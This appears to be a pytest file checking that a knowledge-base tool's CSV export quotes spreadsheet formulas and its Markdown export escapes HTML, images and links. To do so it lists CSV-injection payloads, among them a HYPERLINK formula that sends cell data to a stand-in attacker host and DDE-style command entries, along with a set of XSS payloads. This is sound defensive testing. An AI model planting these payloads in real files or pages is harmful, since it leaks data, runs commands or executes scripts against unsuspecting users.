"""Issue 12, items 8 and 9: what `export` writes is never run by the program that opens it.

CSV: a cell a spreadsheet would read as a formula gets a leading ``'`` (OWASP),
and import takes it off again. Markdown: every value is escaped by the one
function in ``lessons.mdtext``, so no HTML, image or link of a record survives.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from conftest import KB
from markdown_it import MarkdownIt

from lessons.filters import Filters
from lessons.interop import export_text
from lessons.kb import KnowledgeBase
from lessons.model import Schema

# Cells that Excel, LibreOffice or Google Sheets would run, and values around them.
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+41 22 000 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''-twice",
]


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_export_prefixes_every_cell_a_spreadsheet_would_run(kb: KB) -> None:
    for i, text in enumerate(FORMULAS):
        kb.add(f"r{i}", title=f"t{i}", summary=text if text.strip() else "x", team=text)
    res = kb.run("export", "--format", "csv")
    assert res.exit_code == 0
    rows = _csv_rows(res.stdout)
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column in ("summary", "team"):
            cell = row[column]
            assert cell.startswith("'"), (column, cell)
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_raw_csv_writes_cells_as_they_are(kb: KB) -> None:
    kb.add("r1", summary="=1+1", team="@x")
    res = kb.run("export", "--format", "csv", "--raw-csv")
    assert res.exit_code == 0
    (row,) = _csv_rows(res.stdout)
    assert (row["summary"], row["team"]) == ("=1+1", "@x")


def test_csv_export_then_import_gives_the_formula_looking_values_back(
    kb: KB, tmp_path: Path
) -> None:
    for i, text in enumerate(FORMULAS):
        kb.add(f"r{i}", summary=f"{text} (summary)", team=text, tags=[f"t{i}"])
    out = tmp_path / "out.csv"
    assert kb.run("export", "-o", str(out)).exit_code == 0
    assert "'=1+1" in out.read_text(encoding="utf-8")
    other = KB(tmp_path / "other")
    res = other.run("import", str(out))
    assert res.exit_code == 0, res.stderr
    got, want = _records(other.root), _records(kb.root)
    assert len(got) == len(FORMULAS)
    assert got == want
    assert [r["team"] for r in got] == [t.strip() for t in FORMULAS]


def _records(root: Path) -> list[dict[str, object]]:
    base = KnowledgeBase.open(str(root))
    try:
        base.sync()
        return [
            {k: v for k, v in r.items() if k != "path"}
            for r in base.store.records(Filters(), sort="id")
        ]
    finally:
        base.close()


@pytest.mark.parametrize("text", [*FORMULAS, "plain", "'plain", "", "''", "don't"])
def test_guard_and_unguard_are_inverse(text: str) -> None:
    from lessons.interop.values import guard_formula, unguard_formula

    assert unguard_formula(guard_formula(text)) == text


# --- Markdown -------------------------------------------------------------------------

HOSTILE = {
    "title": "<script>alert('title')</script>",
    "summary": 'Look: <img src=x onerror="alert(1)">\n\n[click](javascript:alert(2)) and '
    "<javascript:alert(3)>\n# not a heading\n- not a list\n    not code",
    "lesson": "![x](javascript:alert(4)) &lt;b&gt; <a href='javascript:alert(5)'>a</a>",
    "recommendations": ["<iframe src=javascript:alert(6)>", "[r](javascript:alert(7))"],
    "campaign": "<b onmouseover=alert(8)>c</b>",
    "sources": ["javascript:alert(9)", "<javascript:alert(10)>"],
    "authors": ["<svg onload=alert(11)>"],
}


def _rendered(markdown: str) -> tuple[str, list[str]]:
    """The HTML a CommonMark renderer makes of ``markdown``, and every link target in it."""
    md = MarkdownIt("commonmark", {"html": True, "linkify": False})
    html = md.render(markdown)
    links = [
        str(tok.attrGet("href") or tok.attrGet("src"))
        for block in md.parse(markdown)
        for tok in (block.children or [])
        if tok.type in ("link_open", "image")
    ]
    return html, links


def test_markdown_export_escapes_html_images_and_links(kb: KB) -> None:
    kb.add("hostile", **HOSTILE)
    res = kb.run("export", "--format", "md")
    assert res.exit_code == 0
    html, links = _rendered(res.stdout)
    assert links == []
    for tag in ("<script", "<img", "<iframe", "<b ", "<svg", "<a "):
        assert tag not in html, tag
    # The text itself is all there, shown literally.
    assert "&lt;script&gt;alert('title')&lt;/script&gt;" in html
    assert "[click](javascript:alert(2))" in html
    assert "# not a heading" in html and "<h1>not a heading" not in html
    assert "<li>not a list" not in html and "<pre>" not in html


def test_one_escaping_function_serves_export_and_reports() -> None:
    from lessons import reports
    from lessons.interop import export as export_module
    from lessons.mdtext import md_escape

    assert reports.md_escape is md_escape
    assert export_module.md_escape is md_escape
    doc = {"id": "x", "title": "<b>t</b>", "kind": "mistake", "summary": "s"}
    text = export_text([doc], "md", Schema())
    assert "## \\<b\\>t\\</b\\>" in text


def test_retro_and_brief_markdown_escape_the_same_way(kb: KB) -> None:
    kb.add("hostile", **{**HOSTILE, "tags": ["x"]})
    for args in (("retro", "--format", "md"), ("brief", "alert script", "--format", "md")):
        res = kb.run(*args)
        assert res.exit_code == 0, res.stderr
        html, links = _rendered(res.stdout)
        assert links == []
        assert "<script" not in html and "<img" not in html, args
